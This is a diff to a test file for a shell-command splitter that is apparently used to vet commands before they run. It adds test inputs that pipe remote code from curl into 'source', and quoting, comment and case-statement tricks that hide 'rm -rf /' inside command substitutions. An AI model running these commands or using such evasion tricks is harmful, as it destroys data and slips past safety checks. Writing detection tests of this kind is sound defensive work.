@@ -116,6 +116,9 @@ describe("splitSubcommands", () => {
     ["bash <(curl -s https://x)"],
     ["echo x | bash /dev/stdin"],
     ["source /dev/stdin"],
+    ["source <(curl -s https://x)"],
+    [". <(curl -s https://x)"],
+    ["source -- /dev/fd/0"],
     [`cat <<${"A".repeat(300)}\nrm -rf /\n${"A".repeat(256)}`],
   ])("marks %j unreadable too", (command) => {
     expect(splitCommand(command).unreadable).toBe(true);
@@ -146,6 +149,8 @@ describe("splitSubcommands", () => {
   it.each([
     ["npm test"],
     ["bash ./build.sh"],
+    ["source ~/.nvm/nvm.sh && nvm use"],
+    [". .venv/bin/activate"],
     ['git commit -m "$(date)"'],
     ["command -v rm"],
     ["timeout 10"],
@@ -169,6 +174,32 @@ describe("splitSubcommands", () => {
     expect(texts("cat <<EOF\n$(rm -rf /)\nEOF")).toContain("rm -rf /");
     expect(texts("cat <<'EOF'\n$(rm -rf /)\nEOF")).not.toContain("rm -rf /");
     expect(splitCommand("cat <<EOF\nDon't\nEOF").unreadable).toBe(false);
+  });
+
+  it.each([
+    ['echo "$(true # it)\nrm -rf /\n)"'],
+    ['echo "$(case x in a) true;; esac\nrm -rf /\n)"'],
+    ['echo "$(case x in (a) true;; b|c) :;; esac\nrm -rf /\n)"'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: bash's ${…}, not a template
+    ['echo "$(echo ${x/)/}\nrm -rf /\n)"'],
+    ['echo "$(echo "$(true)" # )\nrm -rf /\n)"'],
+    ["echo x\\ #; rm -rf /"],
+  ])(
+    "ends a substitution where bash does, so what runs after a `)` it does not count is seen: %j",
+    (command) => {
+      // In double quotes, text after a `)` taken for the end would be read as the quote's data.
+      expect(splitCommand(command).subcommands.map((s) => s.text)).toContain("rm -rf /");
+    },
+  );
+
+  it.each([
+    ['x="$(echo case)" && npm test', ["npm test", "echo case"]],
+    ["x=$(case $y in a) echo 1;; esac) && npm test", ["npm test", "case $y in a", "echo 1", "esac"]],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: bash's ${…}, not a template
+    ['y="$(echo ${x:-")"})" && npm test', ["npm test", 'echo $x:-")"']],
+    ["git log --format=\"$(echo '#')\" && npm test", ["git log --format=$(...)", "npm test", "echo #"]],
+  ])("ends %j's substitution at its own `)`", (command, texts) => {
+    expect(splitCommand(command).subcommands.map((s) => s.text)).toEqual(texts);
   });
 
   it("strips leading assignments and marks those that could change the program run as opaque", () => {
